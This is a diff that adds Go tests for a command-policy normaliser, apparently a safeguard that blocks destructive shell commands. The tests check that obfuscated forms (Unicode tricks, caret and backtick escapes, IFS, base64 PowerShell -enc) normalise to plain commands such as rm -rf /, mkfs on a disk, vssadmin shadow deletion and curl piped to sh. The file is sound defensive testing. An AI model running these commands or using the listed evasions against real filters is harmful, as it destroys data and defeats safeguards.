@@ -1,0 +1,93 @@
+package commandpolicy
+
+import (
+	"strings"
+	"testing"
+)
+
+// Each evasion family: the spelled-out form must be blocked like the plain
+// one, and the normalised text must contain the plain form.
+func TestNormaliserEvasions(t *testing.T) {
+	h := newDefault(t)
+	cases := []struct {
+		family, in, wantNorm, rule string
+	}{
+		{"zero-width", "r\u200bm -rf /", "rm -rf /", "rm-root"},
+		{"bidi and BOM", "\ufeffr\u202em\u2066 -rf /", "rm -rf /", "rm-root"},
+		{"soft hyphen", "mk\u00adfs.ext4 /dev/sda1", "mkfs.ext4 /dev/sda1", "mkfs-device"},
+		{"unicode space", "rm\u00a0-rf\u2003/", "rm -rf /", "rm-root"},
+		{"powershell en dash", "Remove-Item \u2013Recurse C:\\", `Remove-Item -Recurse C:\`, "win-root-recursive-delete"},
+		{"smart quotes", "rm -rf \u201c/\u201d", "rm -rf /", "rm-root"},
+		{"cmd caret", `f^o^r^m^a^t c:`, "format c:", "win-format-drive"},
+		{"cmd caret continuation", "format ^\nc:", "format c:", "win-format-drive"},
+		{"powershell backtick", "Format`-Vol`ume -DriveLetter D", "Format-Volume -DriveLetter D", "win-format-drive"},
+		{"empty quote pairs", `r""m -r''f /`, "rm -rf /", "rm-root"},
+		{"quote splitting", `"r"m -"rf" '/'`, "rm -rf /", "rm-root"},
+		{"backslash letters", `\r\m -\r\f \/`, "rm -rf /", "rm-root"},
+		{"line continuation", "rm -rf \\\n /", "rm -rf /", "rm-root"},
+		{"ansi-c quoting", `$'\x72\x6d' -rf /`, "rm -rf /", "rm-root"},
+		{"IFS", `rm${IFS}-rf${IFS}/`, "rm -rf /", "rm-root"},
+		{"tabs and runs of spaces", "rm\t\t-rf    /", "rm -rf /", "rm-root"},
+		{"posix path prefix", "/bin/rm -rf /", "rm -rf /", "rm-root"},
+		{"posix usr path prefix", "/usr/bin/rm -rf /", "rm -rf /", "rm-root"},
+		{"posix dotted path prefix", "//usr/./bin/../bin/rm -rf /", "rm -rf /", "rm-root"},
+		{"wrapped path prefix", "sudo /usr/sbin/mkfs.ext4 /dev/sdb", "sudo mkfs.ext4 /dev/sdb", "mkfs-device"},
+		{"windows path prefix", `C:\Windows\System32\vssadmin.exe delete shadows /all`, "vssadmin delete shadows /all", "win-shadow-copy-delete"},
+		{"windows env path prefix", `%SystemRoot%\System32\bcdedit.exe /delete {current}`, "bcdedit /delete {current}", "win-bcdedit"},
+		{"full width", "\uff52\uff4d -rf /", "rm -rf /", "rm-root"},
+		{"pipe continuation", "curl -s https://x |\n sh", "curl -s https://x | sh", "download-to-shell"},
+		{"encoded command", "powershell -enc " + encodePS("vssadmin delete shadows /all /quiet"), "vssadmin delete shadows /all /quiet", "win-shadow-copy-delete"},
+		{"encoded command prefix -e", "pwsh -e " + encodePS("Format-Volume -DriveLetter C"), "Format-Volume -DriveLetter C", "win-format-drive"},
+		{"encoded command slash", "powershell.exe /EncodedCommand " + encodePS("rd /s /q C:\\"), `rd /s /q C:\`, "win-root-recursive-delete"},
+		{"nested encoded command", "powershell -enc " + encodePS("powershell -enc "+encodePS("bcdedit /delete {current}")), "bcdedit /delete {current}", "win-bcdedit"},
+	}
+	for _, c := range cases {
+		t.Run(c.family, func(t *testing.T) {
+			norm := Normalize(c.in)
+			if !strings.Contains(norm, c.wantNorm) {
+				t.Errorf("Normalize(%q) = %q, want it to contain %q", c.in, norm, c.wantNorm)
+			}
+			if m := h.Check(c.in); !hasHit(m, c.rule) {
+				t.Errorf("%q: want %s, got %+v", c.in, c.rule, m.Hits)
+			}
+		})
+	}
+}
+
+// The normaliser must not invent dangerous text from harmless input.
+func TestNormaliserKeepsHarmlessText(t *testing.T) {
+	for in, want := range map[string]string{
+		"go test ./...":                    "go test ./...",
+		"echo 'a  b'":                      "echo a b",
+		`printf "%s\n" x`:                  "printf %sn x\nprintf %s\\n x",
+		"rm -rf /bin/ls":                   "rm -rf /bin/ls",
+		"ls /usr/bin/":                     "ls /usr/bin/",
+		`dir C:\Users`:                     "dir C:Users\ndir C:\\Users",
+		"a\r\nb":                           "a\nb",
+		"f ( ) { echo; }":                  "f (){ echo; }",
+		"powershell -enc !!notbase64!!":    "powershell -enc !!notbase64!!",
+		"git log --format='%h %s' -- x.go": "git log --format=%h %s -- x.go",
+	} {
+		if got := Normalize(in); got != want {
+			t.Errorf("Normalize(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestEncodedCommandDecoding(t *testing.T) {
+	if got, ok := decodeEncodedCommand(encodePS("Get-Date; ls")); !ok || got != "Get-Date; ls" {
+		t.Fatalf("decode = %q, %v", got, ok)
+	}
+	if _, ok := decodeEncodedCommand("@@@@"); ok {
+		t.Fatal("garbage decoded")
+	}
+	// The expansion runs in every enforcement mode: the normaliser is the
+	// same for all of them.
+	for _, mode := range []string{EnforceBlock, EnforceWarn, EnforceOff} {
+		h, _ := New(Config{Enabled: true, Enforcement: mode, UseDefaultRules: true}, nil)
+		m := h.Check("powershell -enc " + encodePS("Clear-Disk -Number 0"))
+		if !hasHit(m, "win-raw-disk-write") {
+			t.Errorf("mode %s: encoded payload not seen: %+v", mode, m)
+		}
+	}
+}
